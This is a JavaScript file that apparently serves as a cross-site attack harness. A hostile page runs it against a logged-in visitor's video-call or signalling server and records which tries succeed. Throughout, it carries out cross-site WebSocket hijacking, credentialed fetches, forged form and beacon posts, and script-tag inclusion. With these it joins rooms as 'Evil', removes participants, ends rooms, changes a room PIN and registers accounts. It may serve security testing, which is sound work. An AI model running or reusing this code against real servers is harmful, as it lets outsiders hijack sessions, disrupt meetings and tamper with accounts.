// What a page of another site can try against a server that its visitor's browser reaches and is logged in to. Each try says what it got.

// A socket and a request end by themselves, on a busy machine late; a tag and a form may not.
const patience = name => /^(script|style|image|form|sandboxed)/.test(name) ? 4000 : 20000;
const settle = (promise, ms) => Promise.race([promise, new Promise(done => setTimeout(done, ms, 'nothing in time'))]);

// Opened: whatever the server sends or not, the page has a connection.
const socket = (url, first) => new Promise(done => {
  const opened = new WebSocket(url);
  opened.onopen = () => { if (first) opened.send(first); done('opened'); };
  opened.onerror = () => done('refused');
});

const read = (url, options) => fetch(url, options).then(
  async answer => answer.type === 'opaque' ? 'unread' : `${answer.status} ${(await answer.text()).slice(0, 200)}`, () => 'refused');

// A tag sends its request without CORS; `script` and `style` would run or apply what comes, `img` would show it.
const tag = (name, attribute, url) => new Promise(done => {
  const element = document.createElement(name);
  element.onload = () => done('loaded');
  element.onerror = () => done('refused');
  if (name === 'link') element.rel = 'stylesheet';
  element[attribute] = url;
  document.head.append(element);
});

// A form posts across sites without asking, also from a sandboxed frame, whose origin is "null".
const form = (url, fields, sandbox) => new Promise(done => {
  const frame = document.createElement('iframe');
  if (sandbox) frame.sandbox = 'allow-forms allow-scripts';
  const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`).join('');
  frame.srcdoc = `<form method="post" action="${url}">${inputs}</form><script>document.forms[0].submit()<` + '/script>';
  let loads = 0;
  frame.onload = () => ++loads > 1 && done('sent');
  document.documentElement.append(frame);
});

// Tries everything; `known` has what even a guess must not help with: the room, ids of people in it, a user's name.
async function attack(server, known) {
  const ws = server.replace('http', 'ws'), { room, participant, client, user } = known, got = {};
  const json = { 'Content-Type': 'application/json' }, text = { 'Content-Type': 'text/plain' };
  const all = {
    'ws register': () => socket(`${ws}/ws`, JSON.stringify({ cmd: 'register', roomid: room, clientid: client })),
    'ws signal': () => socket(`${ws}/signal`, JSON.stringify({ type: 'join', room, name: 'Evil' })),
    'ws room': () => socket(`${ws}/${room}?name=Evil`),
    'ws root': () => socket(`${ws}/`),
    'ws socket.io': () => socket(`${ws}/socket.io/?EIO=3&transport=websocket&auth_token=${user}`),
    'ws stray': () => socket(`${ws}/join/${room}`),
  };
  for (const [mode, credentials] of [['cors', 'include'], ['no-cors', 'include'], ['cors', 'omit']]) {
    const how = `${mode} ${credentials}`;
    const ask = (method, path, body, headers) => () => read(server + path, { method, mode, credentials, body, headers: mode === 'cors' ? headers : undefined });
    Object.assign(all, {
      [`${how} rooms`]: ask('GET', '/api/rooms'),
      [`${how} people`]: ask('GET', `/api/rooms/${room}`),
      [`${how} recordings`]: ask('GET', '/api/recordings'),
      [`${how} users`]: ask('GET', '/allUsers'),
      [`${how} polling`]: ask('GET', `/socket.io/?EIO=3&transport=polling&auth_token=${user}`),
      [`${how} join`]: ask('POST', `/join/${room}?name=Evil`),
      [`${how} message`]: ask('POST', `/message/${room}/${client}`, '{"type":"bye"}', text),
      [`${how} leave`]: ask('POST', `/leave/${room}/${client}`),
      [`${how} iceconfig`]: ask('POST', `/v1alpha/iceconfig?key=${client}`),
      [`${how} collider`]: ask('POST', `/collider/${room}/${client}`, '{"type":"bye"}', text),
      [`${how} register`]: ask('POST', '/register', new URLSearchParams({ userName: 'evil_one', password: 'secret' })),
      [`${how} login`]: ask('POST', '/mobileLogin', new URLSearchParams({ userName: user, password: 'secret' })),
      [`${how} layout`]: ask('POST', `/api/rooms/${room}/layout`, '{}', json),
    });
    if (mode === 'cors') {
      Object.assign(all, {
        [`${how} removal`]: ask('DELETE', `/api/rooms/${room}/participants/${participant}`),
        [`${how} end`]: ask('DELETE', `/api/rooms/${room}`),
        [`${how} change`]: ask('PATCH', `/api/rooms/${room}`, '{"pin":"6666"}', json),
        [`${how} new room`]: ask('PUT', '/api/rooms/evil', '{}', json),
        [`${how} collider end`]: ask('DELETE', `/collider/${room}/${client}`),
        [`${how} whip`]: ask('POST', `/whip/${room}`, 'v=0', { 'Content-Type': 'application/sdp' }),
      });
    }
  }
  Object.assign(all, {
    'script rooms': () => tag('script', 'src', `${server}/api/rooms`),
    'script users': () => tag('script', 'src', `${server}/allUsers`),
    'script polling': () => tag('script', 'src', `${server}/socket.io/?EIO=3&transport=polling&auth_token=${user}&j=0`),
    'style people': () => tag('link', 'href', `${server}/api/rooms/${room}`),
    'image join': () => tag('img', 'src', `${server}/join/${room}`),
    'form leave': () => form(`${server}/leave/${room}/${client}`, {}),
    'form register': () => form(`${server}/register`, { userName: 'evil_two', password: 'secret' }),
    'form join': () => form(`${server}/join/${room}?name=Evil`, {}),
    'sandboxed leave': () => form(`${server}/leave/${room}/${client}`, {}, true),
    'sandboxed join': () => form(`${server}/join/${room}?name=Evil`, {}, true),
    'beacon leave': async () => navigator.sendBeacon(`${server}/leave/${room}/${client}`) && 'sent',
    'beacon bye': async () => navigator.sendBeacon(`${server}/collider/${room}/${client}`, '{"type":"bye"}') && 'sent',
  });
  for (const [name, run] of Object.entries(all)) got[name] = String(await settle(run().catch(error => `refused: ${error}`), patience(name)));
  return got;
}

// The tab in which the visitor is logged in, opened by this page: what it can read of it.
function peek(tab) {
  const tries = { document: () => tab.document.title, storage: () => tab.sessionStorage.length, address: () => tab.location.href };
  return Object.fromEntries(Object.entries(tries).map(([name, run]) => { try { return [name, String(run())]; } catch (error) { return [name, 'refused']; } }));
}
